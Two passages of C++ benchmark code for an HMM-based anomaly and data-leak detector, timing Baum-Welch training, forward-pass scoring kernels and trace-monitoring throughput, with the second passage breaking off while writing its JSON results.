      {"Baum-Welch (3 iters)", "threads", "seconds", "speedup"});
  for (const TrainRun& run : results->train_runs) {
    table.AddRow({"train", std::to_string(run.threads),
                  util::StrFormat("%.3f", run.seconds),
                  util::StrFormat("%.2fx", run.speedup)});
  }
  table.Print();
  std::printf("parallel output bit-identical to serial: %s\n\n",
              results->bit_identical ? "yes" : "NO — BUG");
}

void BenchDetection(BenchResults* results) {
  // Serving-style workload: the grep-like app's full trace set, scored
  // over and over as a stream of monitored runs.
  PreparedApp prepared = Prepare(apps::MakeGrepLike());
  core::AdProm system = TrainOrDie(prepared);
  const core::ApplicationProfile& profile = system.profile();
  const std::vector<runtime::Trace>& traces = system.training_traces();
  const core::DetectionEngine engine(&profile);

  size_t total_events = 0;
  size_t total_windows = 0;
  for (const runtime::Trace& trace : traces) {
    total_events += trace.size();
    total_windows +=
        core::SlidingWindows(trace, profile.options.window_length).size();
  }
  const size_t repeats = std::max<size_t>(1, 60000 / total_windows);
  results->detect_repeats = repeats;
  results->detect_traces = traces.size();
  results->detect_events = total_events;
  results->detect_windows = total_windows;
  std::printf("detection corpus: grep-like, %zu traces, %zu events,"
              " %zu windows per pass, %zu repeats\n",
              traces.size(), total_events, total_windows, repeats);

  auto record = [&](std::string name, size_t threads, double seconds) {
    DetectRun run;
    run.name = std::move(name);
    run.threads = threads;
    run.seconds = seconds;
    const double scale = static_cast<double>(repeats) / seconds;
    run.events_per_sec = static_cast<double>(total_events) * scale;
    run.windows_per_sec = static_cast<double>(total_windows) * scale;
    results->detect_runs.push_back(run);
  };

  size_t checksum = 0;  // keep the scoring from being optimized away
  {
    const auto t0 = std::chrono::steady_clock::now();
    for (size_t r = 0; r < repeats; ++r) {
      for (const runtime::Trace& trace : traces) {
        checksum += SeedMonitorTrace(profile, trace).size();
      }
    }
    record("seed-per-window", 1, Seconds(t0));
  }
  {
    const auto t0 = std::chrono::steady_clock::now();
    for (size_t r = 0; r < repeats; ++r) {
      for (const runtime::Trace& trace : traces) {
        checksum += engine.MonitorTrace(trace).size();
      }
    }
    record("encode-once", 1, Seconds(t0));
  }
  for (size_t threads : ThreadSweep()) {
    util::ThreadPool pool(threads);
    const auto t0 = std::chrono::steady_clock::now();
    for (size_t r = 0; r < repeats; ++r) {
      const auto batches = engine.MonitorTraces(traces, &pool);
      checksum += batches.size();
    }
    record("batch", threads, Seconds(t0));
  }

  util::TablePrinter table(
      {"Detection", "threads", "seconds", "events/sec", "windows/sec"});
  for (const DetectRun& run : results->detect_runs) {
    table.AddRow({run.name, std::to_string(run.threads),
                  util::StrFormat("%.3f", run.seconds),
                  util::StrFormat("%.0f", run.events_per_sec),
                  util::StrFormat("%.0f", run.windows_per_sec)});
  }
  table.Print();
  std::printf("(checksum %zu; seed-per-window vs encode-once is the"
              " single-thread refactor win, batch rows the pool fan-out)\n",
              checksum);
}

void WriteJson(const BenchResults& results, const std::string& json_path) {
  std::ostringstream json;
  json << "{\n";
  json << "  \"bench\": \"bench_throughput\",\n";
  json << "  \"hardware_concurrency\": "
       << util::ThreadPool::DefaultConcurrency() << ",\n";
  json << "  \"training\": {\"corpus\": \"bash-like\", \"iterations\": "
       << results.train_iterations
       << ", \"windows\": " << results.train_windows
       << ", \"states\": " << results.train_states
       << ", \"alphabet\": " << results.train_alphabet
       << ", \"bit_identical\": "
       << (results.bit_identical ? "true" : "false") << ", \"runs\": [";
  for (size_t i = 0; i < results.train_runs.size(); ++i) {
    const TrainRun& run = results.train_runs[i];
    json << (i ? ", " : "") << "{\"threads\": " << run.threads
         << ", \"wall_time_sec\": " << Num(run.seconds)
         << ", \"speedup\": " << Num(run.speedup) << "}";
  }
  json << "]},\n";
  json << "  \"detection\": {\"corpus\": \"grep-like\", \"repeats\": "
       << results.detect_repeats
       << ", \"traces\": " << results.detect_traces
       << ", \"events_per_pass\": " << results.detect_events
       << ", \"windows_per_pass\": " << results.detect_windows
       << ", \"runs\": [";
  for (size_t i = 0; i < results.detect_runs.size(); ++i) {
    const DetectRun& run = results.detect_runs[i];
    json << (i ? ", " : "") << "{\"name\": \"" << run.name
         << "\", \"threads\": " << run.threads
         << ", \"wall_time_sec\": " << Num(run.seconds)
         << ", \"events_per_sec\": " << Num(run.events_per_sec)
         << ", \"windows_per_sec\": " << Num(run.windows_per_sec) << "}";
  }
  json << "]}\n";
  json << "}\n";

  std::ofstream out(json_path, std::ios::binary);
  if (out) {
    out << json.str();
    std::printf("\nwrote %s\n", json_path.c_str());
  } else {
    std::printf("\nWARNING: cannot write %s\n", json_path.c_str());
  }
}

void Run(const std::string& json_path) {
  PrintHeader("Training & detection throughput");
  BenchResults results;
  BenchTraining(&results);
  BenchDetection(&results);
  WriteJson(results, json_path);
}

}  // namespace
}  // namespace adprom::bench

int main(int argc, char** argv) {
  std::string json_path =
      std::string(ADPROM_SOURCE_DIR) + "/BENCH_throughput.json";
  for (int i = 1; i < argc; ++i) {
    const std::string arg = argv[i];
    if (arg == "--json" && i + 1 < argc) {
      json_path = argv[++i];
    } else if (arg.rfind("--json=", 0) == 0) {
      json_path = arg.substr(7);
    }
  }
  adprom::bench::Run(json_path);
  return 0;
}
