// Throughput bench for the two hot layers: parallel Baum-Welch training
// and the encode-once / workspace detection pipeline.
//
//  * Training: the Table-8-style heavy corpus (the bash-like SIR app,
//    ~1000 call sites, clustered to ~300 hidden states) trained at
//    1/2/4/N threads with both the CSR kernels (default) and the dense
//    ablation (--dense-kernels path), with min-of-N wall time, speedup,
//    and a bit-identical check across every run.
//  * Kernels: the single-thread scoring microbench — the same window set
//    scored by the dense forward pass, the CSR forward pass, and the
//    batched engine (scalar lanes, SIMD lanes, SIMD + quantized triage) —
//    plus the trained model's transition/emission nnz and density and the
//    triage tables' footprint. The batched SIMD row vs the per-window CSR
//    row is the headline number of the batching PR.
//  * Detection: the grep-like app's traces scored by (a) the seed-style
//    per-window path (re-encode + allocate per window), (b) the
//    encode-once/workspace MonitorTrace, and (c) the batch MonitorTraces
//    pool fan-out at 1/2/4/N threads, weak-scaled (trace set replicated
//    once per thread) so per-thread work stays constant; reported as
//    events/sec plus per-thread efficiency.
//
// All wall times are min-of-N (see MinWallSeconds); the JSON carries a
// provenance block naming the CPU and the repeat count. `--smoke` shrinks
// every preset so the whole binary finishes in seconds for CI.
//
// Machine-readable results are written to BENCH_throughput.json at the
// repository root (override with --json <path>) so the perf trajectory is
// tracked across PRs.

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <cstring>
#include <fstream>
#include <set>
#include <sstream>
#include <string>
#include <vector>

#include "bench/bench_common.h"
#include "core/detection_engine.h"
#include "hmm/batch_forward.h"
#include "hmm/baum_welch.h"
#include "hmm/inference.h"
#include "hmm/sparse.h"
#include "util/simd.h"
#include "util/strings.h"
#include "util/table_printer.h"
#include "util/thread_pool.h"

#ifndef ADPROM_SOURCE_DIR
#define ADPROM_SOURCE_DIR "."
#endif

namespace adprom::bench {
namespace {

struct Preset {
  bool smoke = false;
  /// Windows the training sweep and kernel microbench run over.
  size_t train_window_cap = 400;
  /// Baum-Welch iterations per timed training run.
  int train_iterations = 3;
  /// Min-of-N repeats for the timed training runs.
  size_t train_repeats = 3;
  /// Min-of-N repeats for the kernel scoring microbench.
  size_t kernel_repeats = 5;
  /// Target window count per detection timing pass (sets its repeats).
  size_t detect_target_windows = 60000;
};

Preset SmokePreset() {
  Preset p;
  p.smoke = true;
  p.train_window_cap = 100;
  p.train_iterations = 1;
  p.train_repeats = 1;
  p.kernel_repeats = 2;
  p.detect_target_windows = 2000;
  return p;
}

struct TrainRun {
  size_t threads = 0;
  std::string kernel;  // requested: "sparse" or "dense"
  /// What BaumWelchTrain actually ran ("csr"/"dense"), from TrainStats —
  /// the JSON records the executed kernel, not just the request.
  std::string executed_kernel;
  /// The density cutoff this row ran with (pinned to 1.0 so the sweep
  /// measures the kernel it names instead of the auto-select decision).
  double sparse_density_cutoff = 1.0;
  double seconds = 0.0;
  double speedup = 1.0;  // vs the same kernel's single-thread run
  /// speedup / threads — the multi-thread rows strong-scale a fixed
  /// corpus, so raw speedup alone reads as a kernel regression when the
  /// corpus is too small to feed the extra threads. 1.0 means each extra
  /// thread added a full thread's worth of throughput.
  double per_thread_efficiency = 1.0;
};

/// One batched-engine row of the training bench: the full BaumWelchTrain
/// loop through BatchEStep, measured against the dense single-thread row.
struct BatchTrainRun {
  std::string name;  // "batch-scalar" or "batch-simd"
  size_t width = 0;
  std::string simd_level;
  double seconds = 0.0;
  double speedup_vs_dense = 0.0;  // dense 1-thread seconds / this row
  /// Trained model bitwise equal to the sweep's reference model.
  bool bit_identical = true;
};

struct DetectRun {
  std::string name;
  size_t threads = 1;
  /// Events per timed pass for THIS row (weak-scaled rows replicate the
  /// trace set once per thread, so their pass is `threads` x larger).
  size_t events = 0;
  bool weak_scaled = false;
  double seconds = 0.0;
  double events_per_sec = 0.0;
  double windows_per_sec = 0.0;
  /// events_per_sec / (threads * single-thread batch events_per_sec) —
  /// 1.0 means each extra thread adds a full thread's worth of throughput.
  double per_thread_efficiency = 1.0;
};

/// One batched-engine row of the kernel microbench.
struct BatchKernelRun {
  std::string name;
  size_t width = 0;
  std::string simd_level;
  double seconds = 0.0;
  double windows_per_sec = 0.0;
  double speedup_vs_sparse = 0.0;
  /// Fraction of windows the triage tier certified (0 for exact rows).
  double certified_fraction = 0.0;
  /// Exact rows: scores bitwise-equal to the per-window CSR pass. Triage
  /// rows: every score a sound floor on — and threshold-equivalent to —
  /// the exact score.
  bool scores_ok = true;
};

/// The thread counts to sweep: 1, 2, 4, and the hardware concurrency
/// (just 1 and 2 under --smoke).
std::vector<size_t> ThreadSweep(const Preset& preset) {
  std::set<size_t> sweep =
      preset.smoke
          ? std::set<size_t>{1, 2}
          : std::set<size_t>{1, 2, 4, util::ThreadPool::DefaultConcurrency()};
  return {sweep.begin(), sweep.end()};
}

/// The seed (pre-refactor) detection path, reproduced in full: every
/// overlapping window is re-encoded, scored with freshly allocated forward
/// buffers, and the TD provenance set is built window by window. This is
/// the baseline the encode-once/workspace pipeline is measured against.
std::vector<core::Detection> SeedMonitorTrace(
    const core::ApplicationProfile& profile, const runtime::Trace& trace) {
  std::vector<core::Detection> out;
  const auto windows =
      core::SlidingWindows(trace, profile.options.window_length);
  out.reserve(windows.size());
  for (size_t i = 0; i < windows.size(); ++i) {
    const auto& window = windows[i];
    core::Detection detection;
    detection.window_start = i;
    std::set<std::string> sources;
    bool has_td_output = false;
    for (const runtime::CallEvent& event : window) {
      if (!profile.options.use_dd_labels) break;
      if (event.td_output) {
        has_td_output = true;
        sources.insert(event.source_tables.begin(),
                       event.source_tables.end());
        auto it = profile.labeled_sources.find(event.Observable());
        if (it != profile.labeled_sources.end()) {
          sources.insert(it->second.begin(), it->second.end());
        }
      }
    }
    for (const runtime::CallEvent& event : window) {
      if (!profile.context_pairs.contains({event.caller, event.callee})) {
        detection.flag = core::DetectionFlag::kOutOfContext;
        detection.detail = event.callee + " called from " + event.caller;
        break;
      }
    }
    const hmm::ObservationSeq seq = profile.Encode(window);
    auto score = hmm::PerSymbolLogLikelihood(profile.model, seq);
    detection.score = score.ok() ? *score : -1e9;
    for (int symbol : seq) {
      if (symbol == profile.alphabet.unk_id()) {
        detection.score = -1e9;
        if (detection.detail.empty())
          detection.detail = "unknown call symbol";
        break;
      }
    }
    if (detection.flag != core::DetectionFlag::kOutOfContext) {
      if (detection.score < profile.threshold) {
        detection.flag = has_td_output ? core::DetectionFlag::kDataLeak
                                       : core::DetectionFlag::kAnomalous;
      } else {
        detection.flag = core::DetectionFlag::kNormal;
      }
    }
    if (detection.IsAlarm() && has_td_output) {
      detection.source_tables.assign(sources.begin(), sources.end());
    }
    out.push_back(std::move(detection));
  }
  return out;
}

std::string Num(double v) { return util::StrFormat("%.6g", v); }

struct KernelResults {
  size_t windows = 0;
  size_t repeats = 0;
  double dense_seconds = 0.0;
  double sparse_seconds = 0.0;
  double sparse_speedup = 0.0;
  size_t transition_nnz = 0;
  double transition_density = 1.0;
  size_t emission_nnz = 0;
  double emission_density = 1.0;
  bool bit_identical = true;
  std::vector<BatchKernelRun> batch_runs;
  size_t quantized_table_bytes = 0;
};

struct BenchResults {
  std::vector<TrainRun> train_runs;
  std::vector<BatchTrainRun> batch_train_runs;
  bool bit_identical = true;
  int train_iterations = 0;
  size_t train_windows = 0;
  size_t train_states = 0;
  size_t train_alphabet = 0;
  size_t train_repeats = 0;
  double train_transition_density = 1.0;
  /// The shipped auto-select cutoff (TrainOptions default) and the kernel
  /// it would pick for this corpus on the legacy per-sequence path.
  double train_density_cutoff = 0.0;
  std::string train_auto_kernel;
  KernelResults kernels;
  std::vector<DetectRun> detect_runs;
  size_t detect_repeats = 0;
  size_t detect_traces = 0;
  size_t detect_events = 0;
  size_t detect_windows = 0;
};

/// The Table-8-style heavy corpus, trained once (1 EM iteration) so the
/// timed sweeps and the kernel microbench share one model and window set.
struct TrainingSetup {
  core::ApplicationProfile profile;
  std::vector<hmm::ObservationSeq> windows;
};

TrainingSetup SetupTraining(const Preset& preset) {
  // The bash-like app crosses the 900-site clustering threshold, so the
  // trained HMM has hundreds of states and the E-step is genuinely
  // expensive — and its pCTM-derived transition matrix is genuinely
  // sparse.
  PreparedApp prepared =
      Prepare(preset.smoke ? apps::MakeBashLike(25, 8, 4)
                           : apps::MakeBashLike());
  core::ProfileOptions options;
  options.train.max_iterations = 1;  // the sweeps below re-train
  options.max_training_windows = 400;
  core::AdProm system = TrainOrDie(prepared, options);

  TrainingSetup setup;
  setup.profile = system.profile();
  for (const runtime::Trace& trace : system.training_traces()) {
    for (const auto& window :
         core::SlidingWindows(trace, options.window_length)) {
      setup.windows.push_back(setup.profile.Encode(window));
    }
  }
  if (setup.windows.size() > preset.train_window_cap) {
    setup.windows.resize(preset.train_window_cap);
  }
  return setup;
}

size_t CountNonzeros(const util::Matrix& m) {
  size_t nnz = 0;
  for (size_t r = 0; r < m.rows(); ++r) {
    for (size_t c = 0; c < m.cols(); ++c) nnz += m.At(r, c) != 0.0;
  }
  return nnz;
}

void BenchTraining(const TrainingSetup& setup, const Preset& preset,
                   BenchResults* results) {
  const core::ApplicationProfile& profile = setup.profile;
  const std::vector<hmm::ObservationSeq>& windows = setup.windows;
  results->train_windows = windows.size();
  results->train_states = profile.model.num_states();
  results->train_alphabet = profile.alphabet.size();
  results->train_iterations = preset.train_iterations;
  results->train_repeats = preset.train_repeats;
  std::printf("training corpus: bash-like, %zu windows, %zu states,"
              " alphabet %zu\n",
              windows.size(), profile.model.num_states(),
              profile.alphabet.size());

  // The auto-select decision the shipped legacy path would make for this
  // corpus, recorded alongside every row so the JSON is self-describing.
  {
    const hmm::SparseHmm sparse(profile.model);
    results->train_transition_density = sparse.transition_density();
  }
  results->train_density_cutoff = hmm::TrainOptions{}.sparse_density_cutoff;
  results->train_auto_kernel =
      results->train_transition_density <= results->train_density_cutoff
          ? "csr"
          : "dense";

  hmm::HmmModel reference_model;
  for (size_t threads : ThreadSweep(preset)) {
    for (const char* kernel : {"sparse", "dense"}) {
      hmm::TrainOptions train;
      train.max_iterations = preset.train_iterations;
      train.tolerance = 0.0;
      train.num_threads = static_cast<int>(threads);
      train.dense_kernels = std::strcmp(kernel, "dense") == 0;
      // Pin each row to its kernel: the shipped default auto-selects by
      // transition density (TrainOptions::sparse_density_cutoff), so the
      // sweep must force the CSR path to measure it — and the batched
      // engine (now the default) gets its own rows below, so the legacy
      // per-sequence kernels stay pinned here too.
      train.sparse_density_cutoff = 1.0;
      train.batch_width = 0;
      // Train the production configuration: the profile constructor
      // floors only B and pi (smooth_transitions = false) so the
      // pCTM-derived zero pattern of A — the sparsity this corpus is
      // advertised for — survives every iteration. The default
      // (HmmModel::Smooth) would densify A to 100% after the first
      // M-step, silently turning iterations 2+ of every row into a
      // different, fully-dense workload.
      train.smooth_transitions = false;
      hmm::HmmModel model;
      std::string executed_kernel;
      const double seconds =
          MinWallSeconds(preset.train_repeats, [&] {
            model = profile.model;  // same start for every run
            auto stats = hmm::BaumWelchTrain(&model, windows, train);
            ADPROM_CHECK_MSG(stats.ok(), stats.status().ToString());
            executed_kernel = stats->kernel;
          });
      TrainRun run;
      run.threads = threads;
      run.kernel = kernel;
      run.executed_kernel = executed_kernel;
      run.sparse_density_cutoff = train.sparse_density_cutoff;
      run.seconds = seconds;
      // Parallel scaling vs the same kernel's single-thread run.
      for (const TrainRun& prior : results->train_runs) {
        if (prior.threads == 1 && prior.kernel == run.kernel) {
          run.speedup = prior.seconds / seconds;
        }
      }
      run.per_thread_efficiency =
          run.speedup / static_cast<double>(run.threads);
      if (results->train_runs.empty()) {
        reference_model = model;
      } else {
        // Every (threads, kernel) combination must land on the same
        // parameters, bit for bit.
        results->bit_identical =
            results->bit_identical &&
            model.a().MaxAbsDiff(reference_model.a()) == 0.0 &&
            model.b().MaxAbsDiff(reference_model.b()) == 0.0 &&
            model.pi() == reference_model.pi();
      }
      results->train_runs.push_back(std::move(run));
    }
  }

  // The batched engine, shipped defaults, single-threaded: one row with
  // the kernels pinned scalar and one with the runtime SIMD dispatch.
  // speedup_vs_dense against the dense single-thread row above is the
  // headline training number (the perf gate keys on the batch-simd row).
  double dense_single_seconds = 0.0;
  for (const TrainRun& run : results->train_runs) {
    if (run.threads == 1 && run.kernel == "dense") {
      dense_single_seconds = run.seconds;
    }
  }
  for (const bool no_simd : {true, false}) {
    hmm::TrainOptions train;
    train.max_iterations = preset.train_iterations;
    train.tolerance = 0.0;
    train.num_threads = 1;
    train.no_simd = no_simd;
    train.smooth_transitions = false;  // same workload as the sweep above
    hmm::HmmModel model;
    std::string simd_level;
    const double seconds = MinWallSeconds(preset.train_repeats, [&] {
      model = profile.model;
      auto stats = hmm::BaumWelchTrain(&model, windows, train);
      ADPROM_CHECK_MSG(stats.ok(), stats.status().ToString());
      ADPROM_CHECK_MSG(stats->kernel == "batch", stats->kernel);
      simd_level = stats->simd_level;
    });
    BatchTrainRun run;
    run.name = no_simd ? "batch-scalar" : "batch-simd";
    run.width = train.batch_width;
    run.simd_level = simd_level;
    run.seconds = seconds;
    run.speedup_vs_dense = dense_single_seconds / seconds;
    run.bit_identical =
        model.a().MaxAbsDiff(reference_model.a()) == 0.0 &&
        model.b().MaxAbsDiff(reference_model.b()) == 0.0 &&
        model.pi() == reference_model.pi();
    results->bit_identical = results->bit_identical && run.bit_identical;
    results->batch_train_runs.push_back(std::move(run));
  }

  util::TablePrinter table({"Baum-Welch (" +
                                std::to_string(preset.train_iterations) +
                                " iters)",
                            "threads", "kernel", "seconds", "speedup",
                            "efficiency"});
  for (const TrainRun& run : results->train_runs) {
    table.AddRow({"train", std::to_string(run.threads),
                  run.kernel + " (ran " + run.executed_kernel + ")",
                  util::StrFormat("%.3f", run.seconds),
                  util::StrFormat("%.2fx", run.speedup),
                  util::StrFormat("%.2f", run.per_thread_efficiency)});
  }
  for (const BatchTrainRun& run : results->batch_train_runs) {
    table.AddRow({"train", "1",
                  run.name + " (" + run.simd_level + ", W=" +
                      std::to_string(run.width) + ")",
                  util::StrFormat("%.3f", run.seconds),
                  util::StrFormat("%.2fx vs dense", run.speedup_vs_dense),
                  ""});
  }
  table.Print();
  std::printf("all runs bit-identical (threads x kernel x batch): %s\n"
              "(legacy rows pin their kernel with batch_width=0; the"
              " shipped default is the batched engine; all rows train the"
              " production smooth_transitions=false configuration so A's"
              " pCTM zero pattern survives; auto-select on"
              " this corpus: density %.3f vs cutoff %.2f -> %s)\n"
              "(multi-thread rows strong-scale a fixed %zu-window corpus;"
              " efficiency = speedup/threads)\n\n",
              results->bit_identical ? "yes" : "NO — BUG",
              results->train_transition_density,
              results->train_density_cutoff,
              results->train_auto_kernel.c_str(), windows.size());
}

void BenchKernels(const TrainingSetup& setup, const Preset& preset,
                  BenchResults* results) {
  const hmm::HmmModel& model = setup.profile.model;
  const std::vector<hmm::ObservationSeq>& windows = setup.windows;
  const hmm::SparseHmm sparse(model);
  KernelResults& k = results->kernels;
  k.windows = windows.size();
  k.repeats = preset.kernel_repeats;
  k.transition_nnz = CountNonzeros(model.a());
  k.transition_density = sparse.transition_density();
  k.emission_nnz = CountNonzeros(model.b());
  const size_t b_cells = model.num_states() * model.num_symbols();
  k.emission_density =
      b_cells == 0 ? 1.0
                   : static_cast<double>(k.emission_nnz) /
                         static_cast<double>(b_cells);

  // Single-thread scoring: the same windows through the dense and the CSR
  // forward pass, min-of-N. The scores must agree bit for bit.
  hmm::ForwardWorkspace ws;
  std::vector<double> dense_scores(windows.size());
  std::vector<double> sparse_scores(windows.size());
  k.dense_seconds = MinWallSeconds(preset.kernel_repeats, [&] {
    for (size_t i = 0; i < windows.size(); ++i) {
      auto score = hmm::PerSymbolLogLikelihood(model, windows[i], &ws);
      ADPROM_CHECK_MSG(score.ok(), score.status().ToString());
      dense_scores[i] = *score;
    }
  });
  k.sparse_seconds = MinWallSeconds(preset.kernel_repeats, [&] {
    for (size_t i = 0; i < windows.size(); ++i) {
      auto score = hmm::PerSymbolLogLikelihood(sparse, windows[i], &ws);
      ADPROM_CHECK_MSG(score.ok(), score.status().ToString());
      sparse_scores[i] = *score;
    }
  });
  k.sparse_speedup = k.dense_seconds / k.sparse_seconds;
  for (size_t i = 0; i < windows.size(); ++i) {
    k.bit_identical = k.bit_identical &&
                      std::memcmp(&dense_scores[i], &sparse_scores[i],
                                  sizeof(double)) == 0;
  }

  // The batched engine: the same window set through BatchScorer. ScoreBatch
  // requires one common length per call, so the windows are bucketed by
  // length once (outside the timed region) — MonitorTrace gets this for
  // free because SlidingWindows emits uniform windows per trace.
  struct Bucket {
    std::vector<hmm::SymbolSpan> spans;
    std::vector<size_t> index;  // original window index per span
  };
  std::vector<Bucket> buckets;
  for (size_t i = 0; i < windows.size(); ++i) {
    Bucket* bucket = nullptr;
    for (Bucket& candidate : buckets) {
      if (candidate.spans[0].size() == windows[i].size()) {
        bucket = &candidate;
        break;
      }
    }
    if (bucket == nullptr) bucket = &buckets.emplace_back();
    bucket->spans.emplace_back(windows[i]);
    bucket->index.push_back(i);
  }

  const double threshold = setup.profile.threshold;
  std::vector<double> batch_scores(windows.size());
  auto bench_batch = [&](std::string name, bool no_simd, bool triage) {
    hmm::BatchOptions options;
    options.no_simd = no_simd;
    options.triage = triage;
    const hmm::BatchScorer scorer(&sparse, options);
    hmm::BatchWorkspace batch_ws;
    scorer.Reserve(&batch_ws);
    std::vector<double> bucket_out;
    bucket_out.reserve(windows.size());
    const double seconds = MinWallSeconds(preset.kernel_repeats, [&] {
      for (const Bucket& bucket : buckets) {
        bucket_out.resize(bucket.spans.size());
        auto status =
            scorer.ScoreBatch(bucket.spans, threshold, &batch_ws, bucket_out);
        ADPROM_CHECK_MSG(status.ok(), status.ToString());
        for (size_t j = 0; j < bucket.index.size(); ++j) {
          batch_scores[bucket.index[j]] = bucket_out[j];
        }
      }
    });
    BatchKernelRun run;
    run.name = std::move(name);
    run.width = scorer.options().width;
    run.simd_level = util::SimdLevelName(scorer.simd_level());
    run.seconds = seconds;
    run.windows_per_sec = static_cast<double>(windows.size()) / seconds;
    run.speedup_vs_sparse = k.sparse_seconds / seconds;
    // The workspace accumulates across repeats; normalize to one pass.
    run.certified_fraction =
        static_cast<double>(batch_ws.stats.triage_certified) /
        static_cast<double>(batch_ws.stats.windows);
    for (size_t i = 0; i < windows.size(); ++i) {
      run.scores_ok =
          run.scores_ok &&
          (triage ? batch_scores[i] <= sparse_scores[i] &&
                        (batch_scores[i] < threshold) ==
                            (sparse_scores[i] < threshold)
                  : std::memcmp(&batch_scores[i], &sparse_scores[i],
                                sizeof(double)) == 0);
    }
    if (triage) {
      k.quantized_table_bytes = scorer.triage_tables().SizeBytes();
    }
    k.batch_runs.push_back(std::move(run));
  };
  bench_batch("batch-scalar", /*no_simd=*/true, /*triage=*/false);
  bench_batch("batch-simd", /*no_simd=*/false, /*triage=*/false);
  bench_batch("batch-simd-triage", /*no_simd=*/false, /*triage=*/true);

  util::TablePrinter table(
      {"Forward kernel", "seconds (min-of-" +
                             std::to_string(preset.kernel_repeats) + ")",
       "windows/sec", "vs dense", "vs sparse"});
  table.AddRow({"dense", util::StrFormat("%.4f", k.dense_seconds),
                util::StrFormat("%.0f", windows.size() / k.dense_seconds),
                "1.00x", ""});
  table.AddRow({"sparse (CSR)", util::StrFormat("%.4f", k.sparse_seconds),
                util::StrFormat("%.0f", windows.size() / k.sparse_seconds),
                util::StrFormat("%.2fx", k.sparse_speedup), "1.00x"});
  for (const BatchKernelRun& run : k.batch_runs) {
    table.AddRow({run.name + " (" + run.simd_level + ", W=" +
                      std::to_string(run.width) + ")",
                  util::StrFormat("%.4f", run.seconds),
                  util::StrFormat("%.0f", run.windows_per_sec),
                  util::StrFormat("%.2fx", k.dense_seconds / run.seconds),
                  util::StrFormat("%.2fx", run.speedup_vs_sparse)});
  }
  table.Print();
  std::printf("transition matrix: nnz %zu (%.1f%% dense); emission matrix:"
              " nnz %zu (%.1f%% dense)\n",
              k.transition_nnz, 100.0 * k.transition_density,
              k.emission_nnz, 100.0 * k.emission_density);
  std::printf("sparse scores bit-identical to dense: %s\n",
              k.bit_identical ? "yes" : "NO — BUG");
  bool batch_ok = true;
  for (const BatchKernelRun& run : k.batch_runs) {
    batch_ok = batch_ok && run.scores_ok;
  }
  std::printf("batched scores bit-identical (exact) / sound floors"
              " (triage): %s; triage certified %.1f%%, quantized tables"
              " %zu bytes\n\n",
              batch_ok ? "yes" : "NO — BUG",
              100.0 * k.batch_runs.back().certified_fraction,
              k.quantized_table_bytes);
}

void BenchDetection(const Preset& preset, BenchResults* results) {
  // Serving-style workload: the grep-like app's full trace set, scored
  // over and over as a stream of monitored runs.
  PreparedApp prepared = Prepare(apps::MakeGrepLike());
  core::AdProm system = TrainOrDie(prepared);
  const core::ApplicationProfile& profile = system.profile();
  const std::vector<runtime::Trace>& traces = system.training_traces();
  const core::DetectionEngine engine(&profile);

  size_t total_events = 0;
  size_t total_windows = 0;
  for (const runtime::Trace& trace : traces) {
    total_events += trace.size();
    total_windows +=
        core::SlidingWindows(trace, profile.options.window_length).size();
  }
  const size_t repeats =
      std::max<size_t>(1, preset.detect_target_windows / total_windows);
  results->detect_repeats = repeats;
  results->detect_traces = traces.size();
  results->detect_events = total_events;
  results->detect_windows = total_windows;
  std::printf("detection corpus: grep-like, %zu traces, %zu events,"
              " %zu windows per pass, min-of-%zu passes\n",
              traces.size(), total_events, total_windows, repeats);

  auto record = [&](std::string name, size_t threads, size_t scale,
                    double seconds) {
    DetectRun run;
    run.name = std::move(name);
    run.threads = threads;
    run.events = total_events * scale;
    run.weak_scaled = scale > 1;
    run.seconds = seconds;
    run.events_per_sec = static_cast<double>(run.events) / seconds;
    run.windows_per_sec =
        static_cast<double>(total_windows * scale) / seconds;
    results->detect_runs.push_back(run);
  };

  size_t checksum = 0;  // keep the scoring from being optimized away
  record("seed-per-window", 1, 1, MinWallSeconds(repeats, [&] {
           for (const runtime::Trace& trace : traces) {
             checksum += SeedMonitorTrace(profile, trace).size();
           }
         }));
  record("encode-once", 1, 1, MinWallSeconds(repeats, [&] {
           for (const runtime::Trace& trace : traces) {
             checksum += engine.MonitorTrace(trace).size();
           }
         }));
  // Multi-thread rows are WEAK-scaled: the trace set is replicated once
  // per thread, so per-thread work stays constant across the sweep. The
  // old strong-scaled sweep handed each extra thread a smaller slice of a
  // fixed corpus, and on this workload the pool's block fan-out overhead
  // outgrew the shrinking slices — throughput at 4 threads fell below the
  // single-thread row. Per-thread efficiency (vs the 1-thread batch row)
  // is what the JSON tracks: 1.0 means an extra thread adds a full
  // thread's worth of throughput.
  for (size_t threads : ThreadSweep(preset)) {
    std::vector<runtime::Trace> replicated;
    replicated.reserve(traces.size() * threads);
    for (size_t copy = 0; copy < threads; ++copy) {
      replicated.insert(replicated.end(), traces.begin(), traces.end());
    }
    util::ThreadPool pool(threads);
    record("batch", threads, threads, MinWallSeconds(repeats, [&] {
             checksum += engine.MonitorTraces(replicated, &pool).size();
           }));
  }

  double batch_single_eps = 0.0;
  for (const DetectRun& run : results->detect_runs) {
    if (run.name == "batch" && run.threads == 1) {
      batch_single_eps = run.events_per_sec;
    }
  }
  for (DetectRun& run : results->detect_runs) {
    run.per_thread_efficiency =
        batch_single_eps > 0.0
            ? run.events_per_sec /
                  (static_cast<double>(run.threads) * batch_single_eps)
            : 1.0;
  }

  util::TablePrinter table({"Detection", "threads", "scaling", "seconds",
                            "events/sec", "windows/sec", "efficiency"});
  for (const DetectRun& run : results->detect_runs) {
    table.AddRow({run.name, std::to_string(run.threads),
                  run.weak_scaled ? "weak" : "fixed",
                  util::StrFormat("%.3f", run.seconds),
                  util::StrFormat("%.0f", run.events_per_sec),
                  util::StrFormat("%.0f", run.windows_per_sec),
                  util::StrFormat("%.2f", run.per_thread_efficiency)});
  }
  table.Print();
  std::printf("(checksum %zu; seed-per-window vs encode-once is the"
              " single-thread refactor win; batch rows weak-scale the"
              " corpus so per-thread work is constant)\n",
              checksum);
}

void WriteJson(const BenchResults& results, const Preset& preset,
               const std::string& json_path) {
  std::ostringstream json;
  json << "{\n";
  json << "  \"bench\": \"bench_throughput\",\n";
  json << "  " << JsonProvenance(preset.kernel_repeats) << ",\n";
  json << "  \"hardware_concurrency\": "
       << util::ThreadPool::DefaultConcurrency() << ",\n";
  json << "  \"training\": {\"corpus\": \"bash-like\", \"iterations\": "
       << results.train_iterations
       << ", \"windows\": " << results.train_windows
       << ", \"states\": " << results.train_states
       << ", \"alphabet\": " << results.train_alphabet
       << ", \"timing_repeats\": " << results.train_repeats
       << ", \"transition_density\": "
       << Num(results.train_transition_density)
       << ", \"default_sparse_density_cutoff\": "
       << Num(results.train_density_cutoff)
